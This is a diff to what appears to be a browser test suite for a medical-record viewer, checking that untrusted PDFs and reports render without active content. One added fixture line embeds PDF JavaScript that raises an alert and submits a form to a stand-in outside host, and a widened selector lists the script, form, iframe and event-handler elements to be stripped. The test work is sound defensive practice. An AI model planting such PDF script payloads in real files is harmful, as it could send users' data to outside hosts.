@@ -49,6 +49,7 @@ async function letter(): Promise<string> {
   const pdf = await PDFDocument.create();
   const page = pdf.addPage([400, 300]);
   page.drawRectangle({ x: 0, y: 0, width: 400, height: 300 }); // black: a page that was not drawn is white
+  pdf.addJavaScript('hostile', "app.alert(1); this.submitForm('http://elsewhere.example/')"); // of no effect
   return Buffer.from(await pdf.save()).toString('base64');
 }
 
@@ -129,7 +130,9 @@ test('the record stands beside the images, and what its reports would do does no
     await expect(report).toContainText('No embolism.');
     await expect(report).toContainText('Follow-up in 12 months.');
     await expect(
-      report.locator('script, img, form, input, style, iframe, a[href], [onclick], [style]'),
+      report.locator(
+        'script, img, form, input, style, iframe, svg, math, object, link, [src], [href], [onclick], [onload], [style]',
+      ),
     ).toHaveCount(0);
     await part(page, 'reports')
       .getByRole('button', { name: /Discharge letter/ })
